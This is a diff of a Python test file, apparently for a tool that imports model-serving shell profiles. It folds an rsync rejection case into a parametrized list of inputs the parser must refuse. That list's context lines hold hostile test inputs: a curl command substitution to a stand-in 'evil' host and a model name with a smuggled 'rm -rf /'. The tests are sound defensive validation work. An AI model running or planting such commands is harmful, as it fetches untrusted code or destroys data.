@@ -111,17 +111,16 @@ def test_the_environment_goes_through_the_recipe_boundary(tmp_path):
         ("MODEL=$(curl -s http://evil/model)\nSERVE_ARGS=(--max-model-len 8192)\n", "command substitution"),
         ("MODEL=$1\nSERVE_ARGS=(--max-model-len 8192)\n", r"uses \$1, which the text never sets"),
         ("MODEL='Qwen/Qwen3-8B; rm -rf /'\nSERVE_ARGS=(--max-model-len 8192)\n", "neither a Hugging Face repository"),
+        # a script that sets a model and runs other programs is no profile
+        (
+            "MODEL=Qwen/Qwen3-8B\nSERVE_ARGS=(--max-model-len 8192)\nrsync -a models/ spark2:models/\n",
+            r"holds no engine command sparkplay can read \(it runs rsync\)",
+        ),
     ],
 )
 def test_what_a_profile_cannot_say_is_a_one_line_refusal(tmp_path, profile, says):
     with pytest.raises(BadInput, match=says):
         imported(tmp_path, profile)
-
-
-def test_a_script_that_sets_a_model_and_runs_other_programs_is_no_profile(tmp_path):
-    script = "MODEL=Qwen/Qwen3-8B\nSERVE_ARGS=(--max-model-len 8192)\nrsync -a models/ spark2:models/\n"
-    with pytest.raises(BadInput, match=r"holds no engine command sparkplay can read \(it runs rsync\)"):
-        imported(tmp_path, script, "sync.sh")
 
 
 def test_a_profile_that_sources_another_from_its_repository_root_reads_both_said(tmp_path):
